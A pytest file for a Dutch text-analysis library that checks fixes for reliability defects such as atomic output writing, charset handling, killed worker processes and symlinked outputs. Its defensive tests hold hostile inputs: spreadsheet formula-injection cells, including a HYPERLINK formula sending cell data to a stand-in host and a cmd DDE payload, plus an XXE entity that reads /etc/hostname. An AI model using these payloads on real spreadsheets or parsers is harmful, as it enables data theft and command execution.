"""Defects of the reliability review (``../shared/reviews/reliability.md``): files, readers, outputs, workers.

Each test is named after the defect it pins (D1-D6, D15, D16, D18, D20-D25)
and failed on the code the review was made on. The growth defects (D7-D14,
D17, D19, D26) have their own tests.
"""

from __future__ import annotations

import csv
import io
import json
import multiprocessing
import os
import signal
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

import nlp_report
from nlp_report import errors
from nlp_report.cli import main
from nlp_report.evaluation.gold import GoldDocument, read_gold, write_gold
from nlp_report.export import write_reports
from tests.robustness.hostile import DTD_ENTITY, charset_page, cmap_pdf, docx_with

LETTER = "Geachte voorzitter,\n\nNederland steunt de NAVO. De EU besloot over Oekraïne.\n\nHoogachtend,\n"


@pytest.fixture
def shared_pipeline(analyzer: nlp_report.Analyzer, monkeypatch: pytest.MonkeyPatch) -> nlp_report.Analyzer:
    """``--model blank`` in the command gets the session's analyzer."""
    real = nlp_report.load
    monkeypatch.setattr(nlp_report, "load", lambda model=None: analyzer if model == "blank" else real(model))
    return analyzer


def letters(folder: Path, n: int, *, suffix: str = ".txt") -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for i in range(n):
        path = folder / f"brief{i:03d}{suffix}"
        path.write_text(LETTER + f"\nNederland steunt document {i}.\n", encoding="utf-8")
        paths.append(path)
    return paths


# --- D1: an output that is an input -------------------------------------------------------


@pytest.mark.parametrize("fmt", ["jsonl", "table", "csv", "json"])
def test_D1_an_output_that_is_an_input_is_refused_before_anything_is_opened(
    shared_pipeline: nlp_report.Analyzer, tmp_path: Path, fmt: str, capsys: pytest.CaptureFixture[str]
) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text(LETTER, encoding="utf-8")
    assert main(["analyze", str(victim), "--model", "blank", "--format", fmt, "-o", str(victim)]) == 2
    assert victim.read_text(encoding="utf-8") == LETTER
    assert "[E101]" in capsys.readouterr().err


def test_D1_another_name_of_an_input_is_refused_too(shared_pipeline: nlp_report.Analyzer, tmp_path: Path) -> None:
    folder = tmp_path / "in"
    [first, *_] = letters(folder, 2)
    link = tmp_path / "link.txt"
    os.link(first, link)  # a hard link: another path, the same file
    before = first.read_bytes()
    assert main(["analyze", str(folder), "--model", "blank", "--format", "jsonl", "-o", str(link)]) == 2
    symlink = tmp_path / "symlink.jsonl"
    symlink.symlink_to(first)
    assert main(["analyze", str(folder), "--model", "blank", "--format", "jsonl", "-o", str(symlink)]) == 2
    assert first.read_bytes() == before
    with pytest.raises(errors.OutputIsInputError):
        from nlp_report.outputs import check_not_input

        check_not_input(folder / "." / first.name, [first])


def test_D1_html_pages_never_overwrite_an_input(shared_pipeline: nlp_report.Analyzer, tmp_path: Path) -> None:
    folder = tmp_path / "in"
    page = folder / "brief.html"
    folder.mkdir()
    page.write_text("<html><body><p>Nederland steunt de NAVO.</p></body></html>", encoding="utf-8")
    (folder / "x.txt").write_text(LETTER, encoding="utf-8")
    before = page.read_bytes()
    assert main(["analyze", str(folder), "--model", "blank", "--format", "html", "-o", str(folder)]) == 0
    assert page.read_bytes() == before
    # the page of brief.html cannot be brief.html (the input): it keeps its suffix, as pages of same-stem files do
    assert sorted(p.name for p in folder.glob("*.html")) == ["brief.html", "brief.html.html", "x.html"]


# --- D2, D20: atomic outputs ------------------------------------------------------------------


def _failing(reports: list[nlp_report.Report]) -> Iterator[nlp_report.Report]:
    yield from reports
    raise KeyboardInterrupt


@pytest.mark.parametrize("fmt", ["jsonl", "json", "csv", "parquet"])
def test_D2_an_interrupted_writer_leaves_the_old_output(
    analyzer: nlp_report.Analyzer, tmp_path: Path, fmt: str
) -> None:
    pytest.importorskip("pyarrow") if fmt == "parquet" else None
    target = tmp_path / f"out.{fmt}"
    target.write_bytes(b"yesterday's good output")
    reports = [analyzer.analyze(LETTER, source=f"d{i}.txt") for i in range(3)]
    with pytest.raises(KeyboardInterrupt):
        write_reports(_failing(reports), target)
    assert target.read_bytes() == b"yesterday's good output"
    assert [p.name for p in tmp_path.iterdir()] == [target.name]
    assert write_reports(reports, target) == 3  # and a complete run replaces it
    assert target.read_bytes() != b"yesterday's good output"


def test_an_atomic_output_keeps_the_permissions_of_the_file_it_replaces(
    analyzer: nlp_report.Analyzer, tmp_path: Path
) -> None:
    target = tmp_path / "out.jsonl"
    target.write_text("old\n", encoding="utf-8")
    target.chmod(0o640)
    write_reports([analyzer.analyze(LETTER)], target)
    assert target.stat().st_mode & 0o777 == 0o640


def _wait_for_part(folder: Path, deadline: float) -> None:
    while time.monotonic() < deadline:
        if any(p.stat().st_size > 0 for p in folder.glob(".*.part")):
            return
        time.sleep(0.05)
    raise AssertionError("the run did not start writing")


@pytest.mark.slow
@pytest.mark.parametrize(("signum", "code", "name"), [(signal.SIGTERM, 143, "SIGTERM"), (signal.SIGINT, 130, "Ctrl-C")])
@pytest.mark.parametrize("n_process", ["1", "2"])
def test_D2_a_signalled_run_leaves_the_old_output_and_says_so(
    tmp_path: Path, signum: int, code: int, name: str, n_process: str
) -> None:
    folder = tmp_path / "in"
    letters(folder, 400)
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    target = out_dir / "out.csv"
    target.write_text("yesterday's good output\n", encoding="utf-8")
    command = [sys.executable, "-m", "nlp_report", "analyze", str(folder), "--model", "blank", "--format", "csv"]
    command += ["-o", str(target), "--no-progress", "--n-process", n_process]
    process = subprocess.Popen(command, stderr=subprocess.PIPE, text=True, start_new_session=True)
    try:
        _wait_for_part(out_dir, time.monotonic() + 120)
        os.killpg(process.pid, signum) if signum == signal.SIGINT else process.send_signal(signum)
        _, err = process.communicate(timeout=120)
    finally:
        if process.poll() is None:  # pragma: no cover - only if the test fails
            process.kill()
    assert process.returncode == code, err
    assert target.read_text(encoding="utf-8") == "yesterday's good output\n"
    assert [p.name for p in out_dir.iterdir()] == ["out.csv"]
    assert f"interrupted ({name}); {target} was not written and is as it was before" in err
    assert "files:" in err and "not reached" in err  # the summary is printed
    assert "Traceback" not in err


def test_D20_write_gold_of_a_lone_surrogate_leaves_no_empty_file(tmp_path: Path) -> None:
    target = tmp_path / "copy.jsonl"
    document = GoldDocument(id="a", text="Nederland \ud800 steunt.")
    with pytest.raises(errors.GoldFileError, match="lone surrogate"):
        write_gold([document], target)
    assert not target.exists()
    target.write_text("old\n", encoding="utf-8")
    with pytest.raises(errors.GoldFileError):
        write_gold([document], target)
    assert target.read_text(encoding="utf-8") == "old\n"


def test_D20_read_gold_names_the_line_of_a_lone_surrogate(tmp_path: Path) -> None:
    path = tmp_path / "gold.jsonl"
    good = json.dumps({"id": "a", "text": "De EU.", "entities": [], "sentences": []})
    path.write_text(good + '\n{"id": "b", "text": "Nederland \\ud800 steunt.", "entities": [], "sentences": []}\n')
    with pytest.raises(errors.GoldFormatError, match=r"gold\.jsonl:2: text: is not valid Unicode"):
        read_gold(path)


# --- D3, D4, D18: charsets and surrogates from readers --------------------------------------


@pytest.mark.parametrize("codec", ["punycode", "undefined", "unicode_escape", "raw_unicode_escape", "cp037"])
def test_D3_a_declared_codec_that_is_no_text_encoding_is_ignored(tmp_path: Path, codec: str) -> None:
    path = tmp_path / "a.html"
    path.write_bytes(charset_page(codec, escape="\\ud800"))
    document = nlp_report.read(path)
    assert document.text == "Nederland steunt de NAVO en de EU. \\ud800\n"
    assert document.encoding == "utf-8"


def test_D18_a_utf16_declaration_in_markup_means_utf8(tmp_path: Path) -> None:
    path = tmp_path / "a.html"
    path.write_bytes(b'<html><head><meta charset="utf-16"></head><body><p>Nederland steunt de NAVO.</p></body></html>')
    assert nlp_report.read(path).text == "Nederland steunt de NAVO.\n"


def test_D4_a_pdf_mapping_a_glyph_to_a_surrogate_reads_as_valid_text(
    analyzer: nlp_report.Analyzer, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    path = tmp_path / "kaart.pdf"
    path.write_bytes(cmap_pdf(0xD800))
    document = nlp_report.read(path)
    errors.check_text(document.text)
    assert "\ufffd" in document.text
    assert "lone surrogate" in caplog.text and str(path) in caplog.text
    analyzer.analyze(document.text)


@pytest.mark.parametrize("n_process", [1, 2])
def test_D4_an_analysis_error_is_a_file_failure_and_the_run_goes_on(
    analyzer: nlp_report.Analyzer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, n_process: int
) -> None:
    folder = tmp_path / "in"
    paths = letters(folder, 6)
    paths[2].write_text("FOUT in deze brief.", encoding="utf-8")
    real = nlp_report.Analyzer.analyze

    def analyze(self: nlp_report.Analyzer, text: str, *, source: str | None = None) -> nlp_report.Report:
        if text.startswith("FOUT"):
            raise errors.InvalidTextError("text is not valid Unicode: made up for the test")
        return real(self, text, source=source)

    monkeypatch.setattr(nlp_report.Analyzer, "analyze", analyze)  # before the fork: the workers have it too
    run = analyzer.analyze_folder(folder, on_error=lambda failure: None, n_process=n_process)
    reports = list(run)
    assert [Path(r.source).name for r in reports] == [p.name for p in paths if p != paths[2]]
    assert [(Path(f.path).name, f.code) for f in run.failures] == [(paths[2].name, "E102")]
    assert "made up for the test" in run.failures[0].reason
    assert run.summary() == "6 files: 5 analysed, 1 failed"


def test_D3_an_unexpected_error_in_a_reader_is_a_read_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from nlp_report.readers import html

    def broken(*args: object, **kwargs: object) -> None:
        raise UnicodeError("a codec broke")

    monkeypatch.setattr(html, "read_html", broken)
    path = tmp_path / "a.html"
    path.write_text("<p>x</p>", encoding="utf-8")
    with pytest.raises(
        errors.ReadError, match=r"\[E010\] .*a\.html: could not be read \(UnicodeError: a codec broke\)"
    ):
        nlp_report.read(path)


# --- D5: a file name that is not UTF-8 ------------------------------------------------------


@pytest.mark.skipif(sys.platform != "linux", reason="needs a file system that takes any bytes as a name")
@pytest.mark.parametrize("fmt", ["jsonl", "csv", "json", "table"])
def test_D5_a_file_name_that_is_not_utf8_is_analysed_and_written(
    shared_pipeline: nlp_report.Analyzer, tmp_path: Path, fmt: str
) -> None:
    folder = tmp_path / "in"
    letters(folder, 2)
    with open(os.fsencode(folder) + b"/caf\xe9.txt", "w", encoding="utf-8") as handle:
        handle.write("De EU steunt Oekraïne.\n")
    out = tmp_path / f"o.{fmt}"
    assert main(["analyze", str(folder), "--model", "blank", "--format", fmt, "-o", str(out)]) == 0
    written = out.read_text(encoding="utf-8")
    assert "caf\\\\xe9.txt" in written if fmt in ("jsonl", "json") else "caf\\xe9.txt" in written
    assert "brief001.txt" in written  # the files after it were analysed


def test_D5_writers_raise_a_coded_error_for_a_report_they_cannot_encode(
    analyzer: nlp_report.Analyzer, tmp_path: Path
) -> None:
    import dataclasses

    bad = dataclasses.replace(analyzer.analyze("De EU."), source="caf\udce9.txt")
    with pytest.raises(errors.InvalidTextError, match="report source"):
        write_reports([bad], tmp_path / "o.jsonl")
    assert list(tmp_path.iterdir()) == []


# --- D6: a killed worker ----------------------------------------------------------------------


def _kill_a_worker() -> None:
    os.kill(multiprocessing.active_children()[0].pid, signal.SIGKILL)


def test_D6_a_killed_worker_loses_no_document(analyzer: nlp_report.Analyzer, caplog: pytest.LogCaptureFixture) -> None:
    texts = [(LETTER + f"\nNederland steunt document {i}.", f"doc{i}") for i in range(60)]
    expected = [analyzer.analyze(text, source=source).to_dict() for text, source in texts]
    got = []
    for report in analyzer.analyze_many(texts, n_process=2, batch_size=2):
        if not got:
            _kill_a_worker()
        got.append(report.to_dict())
    assert got == expected
    assert multiprocessing.active_children() == []
    assert "a worker process stopped (killed or crashed)" in caplog.text


def _poisoned(monkeypatch: pytest.MonkeyPatch) -> None:
    """Analysing a text that starts with ``GIF`` kills the process doing it (as a crash in native code would)."""
    real = nlp_report.Analyzer.analyze

    def analyze(self: nlp_report.Analyzer, text: str, *, source: str | None = None) -> nlp_report.Report:
        if text.startswith("GIF") and multiprocessing.parent_process() is not None:
            os.kill(os.getpid(), signal.SIGKILL)
        return real(self, text, source=source)

    monkeypatch.setattr(nlp_report.Analyzer, "analyze", analyze)


def test_D6_a_document_that_kills_its_worker_is_a_coded_error(
    analyzer: nlp_report.Analyzer, monkeypatch: pytest.MonkeyPatch
) -> None:
    _poisoned(monkeypatch)
    texts = ["Nederland steunt de NAVO.", "De EU besloot.", "GIF dood", "De VN zwijgt."]
    got = []
    with pytest.raises(errors.WorkerCrashError, match="number 3"):
        for report in analyzer.analyze_many(texts, n_process=2, batch_size=1):
            got.append(report.text)
    assert got == texts[:2]


def test_D6_a_file_that_kills_its_worker_is_a_file_failure(
    analyzer: nlp_report.Analyzer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "in"
    paths = letters(folder, 8)
    paths[3].write_text("GIF in een brief.", encoding="utf-8")
    _poisoned(monkeypatch)
    run = analyzer.analyze_folder(folder, on_error=lambda failure: None, n_process=2)
    assert [Path(r.source).name for r in run] == [p.name for p in paths if p != paths[3]]
    assert [(Path(f.path).name, f.code) for f in run.failures] == [(paths[3].name, "E103")]


# --- D21, D22: untyped errors -----------------------------------------------------------------


def test_D21_a_huge_integer_in_gold_is_a_gold_format_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "gold.jsonl"
    good = json.dumps({"id": "a", "text": "De EU.", "entities": [], "sentences": []})
    path.write_text(good + '\n{"id": "b", "text": "x", "entities": [{"start": ' + "9" * 5000 + ', "end": 1}]}\n')
    with pytest.raises(errors.GoldFormatError, match=r"gold\.jsonl:2: invalid JSON"):
        read_gold(path)
    first = tmp_path / "first.jsonl"
    first.write_text('{"id": "b", "text": "x", "start": ' + "9" * 5000 + "}\n")
    with pytest.raises(errors.GoldFormatError, match=r"first\.jsonl:1"):
        read_gold(first)


def test_D22_a_bad_glob_pattern_is_a_config_error(analyzer: nlp_report.Analyzer, tmp_path: Path) -> None:
    with pytest.raises(errors.ConfigError, match="not a valid glob"):
        list(analyzer.analyze_folder(tmp_path, pattern="x/[z-a]"))


def test_D22_writing_into_a_missing_folder_is_an_output_error(analyzer: nlp_report.Analyzer, tmp_path: Path) -> None:
    with pytest.raises(errors.OutputError, match="does not exist"):
        write_reports([analyzer.analyze("De EU.")], tmp_path / "missing" / "x.jsonl")


def test_D22_writing_what_is_not_a_report_is_an_input_type_error(tmp_path: Path) -> None:
    with pytest.raises(errors.InputTypeError, match="Report objects, not str"):
        write_reports(["x"], tmp_path / "x.jsonl")  # type: ignore[list-item]
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("value", ["2", 2.0, True])
def test_D22_a_bad_n_process_is_a_config_error(analyzer: nlp_report.Analyzer, value: object) -> None:
    with pytest.raises(errors.ConfigError, match="n_process"):
        list(analyzer.analyze_many(["x"], n_process=value))  # type: ignore[arg-type]
    with pytest.raises(errors.ConfigError, match="n_process"):
        analyzer.analyze_files([], n_process=value)  # type: ignore[arg-type]


def test_D22_an_unknown_label_in_report_data_is_an_error(analyzer: nlp_report.Analyzer) -> None:
    data = analyzer.analyze("Nederland steunt de NAVO.").to_dict()
    data["sentences"][0]["label"] = "BOGUS"
    with pytest.raises(errors.ReportDataError, match="label 'BOGUS'"):
        nlp_report.Report.from_dict(data)


def test_D22_a_source_that_is_not_valid_unicode_is_refused(analyzer: nlp_report.Analyzer) -> None:
    with pytest.raises(errors.InvalidTextError, match="source is not valid Unicode"):
        analyzer.analyze("x", source="\udcff")
    with pytest.raises(errors.InvalidTextError):
        list(analyzer.analyze_many([("x", "\udcff")]))
    with pytest.raises(errors.InputTypeError):
        nlp_report.read(123)  # type: ignore[arg-type]


# --- D15, D16: CSV ----------------------------------------------------------------------------


def test_D15_a_lone_carriage_return_stays_inside_its_csv_row(analyzer: nlp_report.Analyzer, tmp_path: Path) -> None:
    report = analyzer.analyze("Nederland steunt\rde NAVO.\rDe EU steunt\rdit ook.\rDe VN zwijgt.", source="a\rb.txt")
    write_reports([report], tmp_path / "x.csv")
    with open(tmp_path / "x.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["text_as_written"] for row in rows] == [s.text for s in report.sentences]
    assert [row["text"] for row in rows] == [" ".join(s.text.split()) for s in report.sentences]  # on one line
    assert {row["source"] for row in rows} == {"a\rb.txt"}
    assert [int(row["start"]) for row in rows] == [s.start for s in report.sentences]


def test_D16_csv_cells_a_spreadsheet_would_run_are_neutralised(analyzer: nlp_report.Analyzer, tmp_path: Path) -> None:
    text = (
        'Nederland steunt de NAVO.\n\n=HYPERLINK("http://x.example/?"&A1,"klik")\n\n'
        "+cmd|' -C calc'!A0 steunt de EU.\n\n@SUM(1+1) en de VN.\n\n-2+3 is het antwoord van de NAVO.\n"
    )
    report = analyzer.analyze(text, source="=cmd.txt")
    write_reports([report], tmp_path / "x.csv")
    with open(tmp_path / "x.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    cells = [value for row in rows for value in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    assert "'+cmd|' -C calc'!A0 steunt de EU." in cells and "'=cmd.txt" in cells
    raw = io.StringIO()
    from nlp_report.export import CsvWriter

    with CsvWriter(raw, spreadsheet_safe=False) as writer:
        writer.write(report)
    assert "\n+cmd|" in raw.getvalue().replace('"', "") or ",+cmd|" in raw.getvalue()


# --- D23: DTDs and unterminated markup --------------------------------------------------------


def test_D23_a_docx_with_a_dtd_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "xxe.docx"
    path.write_bytes(docx_with(DTD_ENTITY.replace("{rest}", "{rest}"), text="SECRET"))
    with zipfile.ZipFile(path) as package:
        assert b"<!DOCTYPE" in package.read("word/document.xml")
    with pytest.raises(errors.CorruptFileError, match=r"word/document\.xml declares a DTD"):
        nlp_report.read(path)


def test_D23_a_doctype_internal_subset_does_not_leak_into_the_text(tmp_path: Path) -> None:
    path = tmp_path / "x.xml"
    path.write_text(
        '<?xml version="1.0"?>\n<!DOCTYPE kamerstuk [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>\n'
        "<kamerstuk><al>Nederland steunt de NAVO. SECRET:&xxe;:END</al></kamerstuk>\n",
        encoding="utf-8",
    )
    assert nlp_report.read(path).text == "Nederland steunt de NAVO. SECRET:&xxe;:END\n"


@pytest.mark.parametrize("tail", ["<!-- geheim commentaar", "<a href='geheim", "</p", "<!DOCTYPE x"])
def test_D23_an_unterminated_comment_or_tag_is_not_text(tmp_path: Path, tail: str) -> None:
    path = tmp_path / "c.html"
    path.write_text("<html><body><p>Nederland steunt de NAVO.</p>" + tail, encoding="utf-8")
    assert nlp_report.read(path).text == "Nederland steunt de NAVO.\n"


# --- D24: HTML pages in a folder --------------------------------------------------------------


def test_D24_html_pages_differ_without_case_and_replace_links(
    shared_pipeline: nlp_report.Analyzer, tmp_path: Path
) -> None:
    folder = tmp_path / "in"
    (folder / "sub").mkdir(parents=True)
    for name in ("x.txt", "X.txt", "sub/x.txt"):
        (folder / name).write_text(LETTER, encoding="utf-8")
    pages = tmp_path / "pages"
    pages.mkdir()
    precious = tmp_path / "precious.txt"
    precious.write_text("precious", encoding="utf-8")
    (pages / "X.html").symlink_to(precious)
    assert main(["analyze", str(folder), "--model", "blank", "--format", "html", "-o", str(pages)]) == 0
    assert precious.read_text(encoding="utf-8") == "precious"
    names = sorted(p.name for p in pages.iterdir())
    assert len({name.casefold() for name in names}) == len(names) == 3
    assert not any(p.is_symlink() for p in pages.iterdir())


# --- D25: pypdf on stderr, token cuts ---------------------------------------------------------


@pytest.mark.slow
def test_D25_pypdf_warnings_do_not_reach_stderr_from_the_library(tmp_path: Path) -> None:
    path = tmp_path / "kapot.pdf"
    path.write_bytes(b"%PDF-1.4\n" + bytes(range(256)) * 2)
    script = (
        "import nlp_report, sys\n"
        "try:\n    nlp_report.read(sys.argv[1])\nexcept nlp_report.ReadError as e:\n    print(e.code)\n"
    )
    done = subprocess.run([sys.executable, "-c", script, str(path)], capture_output=True, text=True, timeout=120)
    assert done.stdout.strip().startswith("E0")
    assert done.stderr == ""


def test_D25_a_token_cut_never_starts_with_a_combining_mark(analyzer: nlp_report.Analyzer) -> None:
    text = "Nederland " + "e" * 499 + "\u0301" * 10 + "x" * 600 + " NAVO."
    doc = analyzer.nlp(text)
    assert doc.text == doc._.layout.clean_text  # the cleaned text, in composed form (D17): "e" + U+0301 is "é"
    assert not [t.text for t in doc if t.text[:1] == "\u0301"]
    assert max(len(t) for t in doc) <= 500


def test_D22_an_unknown_frame_kind_is_a_coded_error(analyzer: nlp_report.Analyzer) -> None:
    with pytest.raises(errors.ArgumentError, match="'bogus'"):
        analyzer.analyze("De EU.").to_frame("bogus")  # type: ignore[arg-type]
